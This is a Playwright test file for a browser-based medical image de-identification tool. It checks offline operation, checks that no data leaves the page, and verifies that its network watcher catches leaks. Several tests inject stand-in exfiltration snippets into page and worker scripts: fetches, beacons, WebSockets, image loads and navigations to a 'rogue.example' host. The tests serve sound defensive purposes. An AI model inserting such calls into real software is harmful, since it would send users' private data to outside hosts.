import { expect, test } from '@playwright/test';
import { anonymizerPage, withoutSavePicker } from './anonymizer-page.ts';
import { temporaryFolder } from './support/folder.ts';
import { watchNetwork } from './support/network-watch.ts';
import { patchScript, removePolicies, scripts, stopPatching, withoutServiceWorker } from './support/patched-scripts.ts';
import { needs } from './support/peers.ts';
import { ctSeries } from './support/series.ts';

/** On start each worker tries to fetch and expects the policy to stop it; nothing else may be tried. */
const isProbe = (text: string) => /data:,probe|connect-src data/.test(text);

test.afterEach(({ page }) => stopPatching(page));

const originOf = (baseURL: string | undefined) => new URL(baseURL ?? '').origin;

test.describe('with the service worker', () => {
  test('nothing leaves the page, from the first byte to the saved archive', async ({ page, baseURL }) => {
    const folder = temporaryFolder();
    const watch = await watchNetwork(page, originOf(baseURL), isProbe);
    await withoutSavePicker(page);
    const app = anonymizerPage(page);
    await app.open();
    await app.trySampleData.click();
    await app.waitUntilScanned();
    await app.deidentify();
    await app.saveZip(`${folder.path}/deidentified.zip`);
    await app.saveRecords(`${folder.path}/records.zip`);
    await app.saveReceipt(`${folder.path}/receipt.zip`);
    expect(watch.problems()).toEqual([]);
    expect(watch.requests().length).toBeGreaterThan(3);
    folder.discard();
  });

  test('all of it works offline once the page says so, on the first visit and the next', async ({ page, context }) => {
    const folder = temporaryFolder();
    await withoutSavePicker(page);
    const app = anonymizerPage(page);
    await app.open();
    await page.getByRole('button', { name: 'Works offline' }).waitFor();
    await context.setOffline(true);
    await app.trySampleData.click();
    await app.waitUntilScanned();
    await app.deidentify();
    await app.saveZip(`${folder.path}/deidentified.zip`);
    await app.saveRecords(`${folder.path}/records.zip`);
    await page.goto('./?profile=ps315-basic');
    await expect(app.trySampleData).toBeVisible();
    folder.discard();
  });
});

test('a dropped folder is read, shown and de-identified with the network cut', async ({ page, context }) => {
  test.skip(...needs('Python'));
  const series = ctSeries(5);
  const app = anonymizerPage(page);
  await app.open();
  await expect(app.chooseFolder).toBeEnabled();
  await page.waitForLoadState('networkidle');
  await context.setOffline(true);
  await app.drop(series.path);
  await app.waitUntilScanned();
  await app.openFirstSeries();
  await expect(app.tagChanges).toBeVisible();
  expect(await app.deidentify()).toEqual({ deidentified: 5, held: 0, skipped: 0, failed: 0 });
  series.discard();
});

test.describe('the watch itself fails when', () => {
  test.use(withoutServiceWorker);

  const rogues = {
    'the page fetches from another origin': "fetch('https://rogue.example/').catch(() => {});",
    'the page sends data to its own host': "fetch('./?name=x', { method: 'POST', body: 'x' }).catch(() => {});",
    'the page sends a beacon': "navigator.sendBeacon('./beacon', 'x');",
    'the page opens a WebSocket': "try { new WebSocket('wss://rogue.example/'); } catch {}",
    'the page loads a picture from elsewhere': "new Image().src = 'https://rogue.example/x.png';",
    'the page opens a window': "window.open('https://rogue.example/');",
    'the page navigates away': "setTimeout(() => { location.href = './?leak=1'; }, 50);",
  } as const;
  for (const [title, code] of Object.entries(rogues)) {
    test(title, async ({ page, baseURL }) => {
      const watch = await watchNetwork(page, originOf(baseURL), isProbe);
      await patchScript(page, scripts.page, code);
      await anonymizerPage(page).open();
      await expect.poll(() => watch.problems()).not.toEqual([]);
    });
  }

  test('a worker fetches from another origin', async ({ page, baseURL }) => {
    const watch = await watchNetwork(page, originOf(baseURL), isProbe);
    const patched = await patchScript(
      page,
      scripts.deidentifyWorker,
      "fetch('https://rogue.example/').catch(() => {});",
    );
    await anonymizerPage(page).open();
    await expect.poll(() => watch.problems().join()).toContain('rogue.example');
    expect(patched()).toBeGreaterThan(0);
  });
});

test.describe('with every wall taken down, the watch still sees', () => {
  test.use(withoutServiceWorker);

  for (const where of ['page', 'deidentifyWorker'] as const) {
    test(`a fetch from the ${where}`, async ({ page, baseURL }) => {
      const watch = await watchNetwork(page, originOf(baseURL), isProbe);
      // Answered here: that it arrives shows that no policy was left to help.
      let received = 0;
      await page.context().route('https://rogue.example/**', (route) => {
        received += 1;
        return route.fulfill({ body: '' });
      });
      await removePolicies(page);
      await patchScript(
        page,
        scripts[where],
        "fetch('https://rogue.example/leak', { mode: 'no-cors' }).catch(() => {});",
      );
      await anonymizerPage(page).open();
      await expect.poll(() => received).toBeGreaterThan(0);
      await expect
        .poll(() => watch.problems().join())
        .toContain('request to another origin: GET https://rogue.example/leak');
    });
  }
});
